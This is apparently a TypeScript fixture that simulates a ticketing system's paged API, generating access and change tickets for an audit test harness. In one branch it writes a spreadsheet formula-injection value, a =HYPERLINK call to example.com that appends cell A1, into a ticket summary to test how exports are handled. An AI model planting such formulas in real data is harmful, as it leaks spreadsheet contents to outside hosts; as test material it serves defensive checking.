import { changesOf } from '../changes';
import { instant } from '../estate';
import { grantsOf } from '../grants';
import { Quarter } from '../Quarter';
import { violationsOf } from '../violations';
import { System } from './System';

/** The ticketing system, whose API answers in pages. */
export const ticketing: System = {
  title: 'Ticketing',
  collections: {
    tickets: {
      asked: 'from-to',
      format: 'json-pages',
      recordsAt: 'issues',
      records: tickets,
    },
  },
};

function* tickets(quarter: Quarter, now: number) {
  const violations = violationsOf(quarter);
  for (const { at, ticket, role, flaw } of grantsOf(quarter, violations)) {
    if (at > now) break;
    if (!ticket) continue;
    yield {
      key: ticket.key,
      fields: {
        kind: 'access',
        application: ticket.application.application,
        // Somebody tries what a spreadsheet does with it.
        summary:
          flaw === 'approved by the requester'
            ? `=HYPERLINK("https://example.com/?"&A1;"${role}")`
            : `${ticket.reporter.name} needs ${role}`,
        status: ticket.status,
        reporter: ticket.reporter.mail,
        ...approval(ticket.approver?.mail, ticket.approvedAt),
      },
    };
  }
  for (const { changes, ticket } of changesOf(quarter, violations)) {
    if (changes[0].at > now) break;
    if (!ticket) continue;
    yield {
      key: ticket.key,
      fields: {
        kind: 'change',
        application: ticket.application.application,
        summary: `${changes[0].command} and ${changes.length - 1} more`,
        status: ticket.status,
        reporter: ticket.reporter.mail,
        ...approval(ticket.approver?.mail, ticket.approvedAt),
        window: {
          start: instant(ticket.window.start),
          end: instant(ticket.window.end),
        },
      },
    };
  }
}

function approval(approver?: string, approvedAt?: number) {
  return {
    ...(approver && { approver }),
    ...(approvedAt !== undefined && { approved: instant(approvedAt) }),
  };
}
